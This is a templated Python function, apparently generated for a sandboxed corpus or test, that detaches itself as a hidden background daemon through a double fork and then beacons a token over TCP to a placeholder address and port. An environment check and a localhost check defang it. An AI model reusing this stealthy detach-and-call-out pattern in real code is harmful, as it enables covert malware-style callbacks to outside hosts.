# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import time
    try:
        first = os.fork()
        if first:
            os.waitpid(first, 0)
            return
        try:
            os.setsid()
            if os.fork():
                os._exit(0)
            os.chdir('/')
            os.umask(0)
            null = os.open('/dev/null', os.O_RDWR)
            for number in (0, 1, 2):
                os.dup2(null, number)
            for beat in range(2):
                try:
                    call = socket.create_connection(('{{ip}}', {{port}}), 0.8)
                    call.sendall(b'{{token}} %d\n' % beat)
                    call.close()
                except OSError:
                    pass
                time.sleep(0.8)
        finally:
            os._exit(0)
    except OSError:
        pass
